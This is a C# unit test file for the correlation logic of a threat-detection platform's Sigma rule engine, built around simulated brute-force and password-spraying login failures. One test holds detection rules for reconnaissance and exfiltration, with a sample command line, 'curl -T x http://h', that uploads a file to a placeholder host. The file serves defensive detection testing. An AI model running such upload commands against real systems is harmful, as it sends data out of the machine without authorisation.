using ThreatPlatform.Application.Rules.Sigma;
using static ThreatPlatform.Application.UnitTests.Rules.SigmaTestEvents;

namespace ThreatPlatform.Application.UnitTests.Rules;

/// <summary>Correlations (event_count, value_count, temporal, the older count() aggregation) in memory, at their window's edges.</summary>
public sealed class SigmaCorrelationTests
{
    private const string FailedLogin = """
        ---
        name: failed_login
        title: Failed login
        detection:
            selection:
                event_type: auth_failure
            condition: selection
        """;

    private static SigmaRule Correlation(string type, string condition, string timespan = "60s") => SigmaCompiler.Compile($"""
        title: Many failed logins from one address
        level: high
        correlation:
            type: {type}
            rules:
                - failed_login
            group-by:
                - source_ip
            timespan: {timespan}
            condition:
        {condition}
        {FailedLogin}
        """);

    private static SigmaEvent Failed(int second, string ip = "198.51.100.7", string user = "root") =>
        Event(new { user }, eventType: "auth_failure", sourceIp: ip, at: T0.AddSeconds(second));

    /// <summary>Feeds the events in order; the indexes of the events the correlation fired on.</summary>
    private static List<int> Fires(SigmaRule rule, params SigmaEvent[] events)
    {
        var memory = new CorrelationMemory();
        var correlation = rule.Correlation!;
        var fired = new List<int>();
        for (var i = 0; i < events.Length; i++)
        {
            var matched = correlation.Rules.Where(r => r.Matches(events[i])).ToList();
            if (matched.Count > 0 && memory.Observe(correlation, events[i], $"e{i}", matched))
            {
                fired.Add(i);
            }
        }

        return fired;
    }

    [Fact]
    public void Event_count_fires_on_the_event_that_makes_n_within_the_timespan() =>
        Fires(Correlation("event_count", "        gte: 3"), Failed(0), Failed(30), Failed(60)).Should().Equal(2);

    [Fact]
    public void Event_count_does_not_fire_when_n_events_spread_over_the_timespan_plus_one_second() =>
        Fires(Correlation("event_count", "        gte: 3"), Failed(0), Failed(30), Failed(61)).Should().BeEmpty();

    [Fact]
    public void Event_count_counts_each_group_apart() =>
        Fires(Correlation("event_count", "        gte: 2"), Failed(0, "10.0.0.1"), Failed(1, "10.0.0.2"), Failed(2, "10.0.0.1")).Should().Equal(2);

    [Fact]
    public void Events_the_base_rule_does_not_match_are_not_counted() =>
        Fires(Correlation("event_count", "        gte: 2"), Failed(0), Event(eventType: "login", sourceIp: "198.51.100.7"), Failed(5))
            .Should().Equal(2);

    [Fact]
    public void After_firing_the_counted_events_are_consumed_and_the_next_burst_fires_again() =>
        Fires(Correlation("event_count", "        gte: 2"), Failed(0), Failed(1), Failed(2), Failed(3)).Should().Equal(1, 3);

    [Fact]
    public void A_repeated_event_key_is_counted_once()
    {
        var correlation = Correlation("event_count", "        gte: 2").Correlation!;
        var memory = new CorrelationMemory();

        memory.Observe(correlation, Failed(0), "same", correlation.Rules).Should().BeFalse();
        memory.Observe(correlation, Failed(0), "same", correlation.Rules).Should().BeFalse();
        memory.Observe(correlation, Failed(1), "other", correlation.Rules).Should().BeTrue();
    }

    [Fact]
    public void Gt_needs_more_than_n() =>
        Fires(Correlation("event_count", "        gt: 2"), Failed(0), Failed(1), Failed(2)).Should().Equal(2);

    [Fact]
    public void Value_count_counts_distinct_values_of_the_field()
    {
        var rule = Correlation("value_count", "        field: user\n        gte: 3");

        Fires(rule, Failed(0, user: "a"), Failed(1, user: "a"), Failed(2, user: "b"), Failed(3, user: "b")).Should().BeEmpty();
        Fires(rule, Failed(0, user: "a"), Failed(1, user: "b"), Failed(2, user: "a"), Failed(3, user: "c")).Should().Equal(3);
    }

    [Fact]
    public void Temporal_fires_when_every_rule_has_matched_in_the_group_within_the_timespan()
    {
        var rule = SigmaCompiler.Compile("""
            title: Recon then exfiltration
            correlation:
                type: temporal
                rules: [recon, exfil]
                group-by: [source]
                timespan: 5m
            ---
            name: recon
            title: Recon
            detection:
                s:
                    CommandLine|contains: whoami
                condition: s
            ---
            name: exfil
            title: Exfil
            detection:
                s:
                    CommandLine|contains: curl
                condition: s
            """);
        var recon = (int s, string host) => Event(new { CommandLine = "whoami /all" }, source: host, at: T0.AddSeconds(s));
        var exfil = (int s, string host) => Event(new { CommandLine = "curl -T x http://h" }, source: host, at: T0.AddSeconds(s));

        Fires(rule, recon(0, "a"), recon(10, "a"), exfil(300, "b"), exfil(300, "a")).Should().Equal(3);
        Fires(rule, recon(0, "a"), exfil(301, "a")).Should().BeEmpty();
    }

    [Fact]
    public void The_older_count_aggregation_with_timeframe_is_an_event_count()
    {
        var rule = SigmaCompiler.Compile("""
            title: Brute force
            detection:
                selection:
                    event_type: auth_failure
                timeframe: 1m
                condition: selection | count() by source_ip > 2
            """);

        rule.Correlation!.Type.Should().Be(CorrelationType.EventCount);
        rule.Correlation.GroupBy.Should().Equal("source_ip");
        Fires(rule, Failed(0), Failed(20), Failed(40), Failed(59)).Should().Equal(2);
    }

    [Fact]
    public void The_older_count_of_a_field_is_a_value_count()
    {
        var rule = SigmaCompiler.Compile("""
            title: Password spraying
            detection:
                selection:
                    event_type: auth_failure
                timeframe: 10m
                condition: selection | count(user) by source_ip >= 2
            """);

        rule.Correlation!.Type.Should().Be(CorrelationType.ValueCount);
        Fires(rule, Failed(0, user: "a"), Failed(1, user: "a"), Failed(2, user: "b")).Should().Equal(2);
    }
}
